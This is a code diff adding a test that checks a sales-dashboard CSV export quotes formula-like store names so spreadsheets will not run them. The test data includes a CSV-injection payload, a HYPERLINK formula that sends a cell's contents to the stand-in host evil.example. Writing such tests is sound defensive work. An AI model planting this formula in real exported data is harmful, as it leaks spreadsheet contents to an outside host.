@@ -26,6 +26,7 @@ from shops.reporting.dashboard import (
     dashboard_presets,
     headline_note,
     headline_period,
+    sales_csv,
 )
 from tests.conftest import local
 from tests.shops import helpers
@@ -450,6 +451,22 @@ class TestHeadline:
 
 
 class TestExport:
+    def test_names_a_spreadsheet_would_run_are_quoted_and_figures_are_not(self) -> None:
+        answer = {
+            "group_by": "store",
+            "previous": {"start": "2025-03-01", "end": "2025-03-31"},
+            "totals": {"amount": "900.00", "amount_yoy_pct": "-50.0"},
+            "groups": [{"key": "SYA-AIR", "amount": "900.00", "amount_yoy_pct": "-50.0"}],
+        }
+        evil = '=HYPERLINK("http://evil.example/?q="&A2,"点击")'
+        text = sales_csv(answer, names={"SYA-AIR": "@SUM(1)"}, full_names={"SYA-AIR": evil})
+        header = csv_columns("store")
+        _header, _totals, group = (
+            dict(zip(header, row, strict=True)) for row in csv.reader(io.StringIO(text))
+        )
+        assert (group["name"], group["full_name"]) == ("'@SUM(1)", "'" + evil)
+        assert group["amount_yoy_pct"] == "-50.0"
+
     def test_totals_and_groups_equal_the_stats(self, staff_client: Client, march_sales) -> None:
         for group_by in (None, "day", "month", "store", "category", "traveller_kind"):
             query = "start=2026-03-01&end=2026-03-31&align=calendar"
